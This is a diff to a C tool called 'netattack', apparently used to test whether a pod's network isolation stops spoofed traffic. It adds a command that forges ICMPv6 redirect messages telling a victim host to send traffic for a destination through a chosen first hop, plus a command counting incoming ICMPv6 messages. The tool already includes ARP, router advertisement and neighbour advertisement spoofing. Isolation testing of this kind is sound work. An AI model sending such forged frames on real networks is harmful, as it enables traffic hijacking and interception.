@@ -16,6 +16,10 @@
                                                eth0's link-local address: "TARGET_IP6 ("own": eth0's
                                                address) is at MAC (eth0's)" (override), every 100 ms for 1 s
 
+     redirect MAC IP6 TARGET DESTINATION       three ICMPv6 redirects to MAC, IP6, from eth0's link-local
+                                               address: "for DESTINATION, TARGET is the better first hop"
+     sniff TYPE SECONDS                        how many ICMPv6 messages of TYPE arrive on eth0 in SECONDS
+
    Frames go out through a packet socket, so that neither the pod's routing nor its own checks
    stand in the way: only what the host and the bridge do decides what arrives. */
 #define _GNU_SOURCE
@@ -363,9 +367,47 @@ static int na(char **argv) {
     return 0;
 }
 
+static int redirect(char **argv) {
+    uint8_t victim_mac[6], frame[128] = {0};
+    parse_mac(argv[0], victim_mac);
+    struct in6_addr victim = parse_ipv6(argv[1]), target = parse_ipv6(argv[2]), destination = parse_ipv6(argv[3]);
+    size_t at = ethernet(frame, victim_mac, ETHERTYPE_IPV6);
+    uint8_t *icmp = frame + at + 40;
+    size_t length = 8 + 16 + 16;
+    icmp[0] = 137; /* redirect */
+    memcpy(icmp + 8, &target, 16);
+    memcpy(icmp + 24, &destination, 16);
+    at += ipv6(frame + at, &own_link_local, &victim, IPPROTO_ICMPV6, 255, length, 2);
+    for (int i = 0; i < 3; i++) {
+        send_frame(frame, at);
+        usleep(200000);
+    }
+    return 0;
+}
+
+static int sniff(char **argv) {
+    int type = atoi(argv[0]), count = 0;
+    uint8_t frame[2048];
+    struct timespec start, now;
+    clock_gettime(CLOCK_MONOTONIC, &start);
+    for (;;) {
+        clock_gettime(CLOCK_MONOTONIC, &now);
+        long left = atol(argv[1]) * 1000 - ((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000);
+        struct pollfd ready = {.fd = sock, .events = POLLIN};
+        if (left <= 0 || poll(&ready, 1, (int)left) <= 0)
+            break;
+        ssize_t got = recv(sock, frame, sizeof frame, 0);
+        if (got >= 14 + 40 + 4 && frame[12] == 0x86 && frame[13] == 0xdd && frame[14 + 6] == IPPROTO_ICMPV6 &&
+            frame[14 + 40] == type)
+            count++;
+    }
+    printf("%d\n", count);
+    return 0;
+}
+
 int main(int argc, char **argv) {
     if (argc < 2) {
-        fputs("usage: netattack udp|syn|arp|ra|udp6|na ...\n", stderr);
+        fputs("usage: netattack udp|syn|arp|ra|udp6|na|redirect|sniff ...\n", stderr);
         return 2;
     }
     open_eth0();
@@ -379,6 +421,10 @@ int main(int argc, char **argv) {
         return ra();
     if (strcmp(argv[1], "udp6") == 0 && argc == 6)
         return udp6(argv + 2);
+    if (strcmp(argv[1], "redirect") == 0 && argc == 6)
+        return redirect(argv + 2);
+    if (strcmp(argv[1], "sniff") == 0 && argc == 4)
+        return sniff(argv + 2);
     if (strcmp(argv[1], "na") == 0 && (argc == 3 || argc == 4))
         return na(argv + 2);
     fputs("netattack: bad arguments\n", stderr);
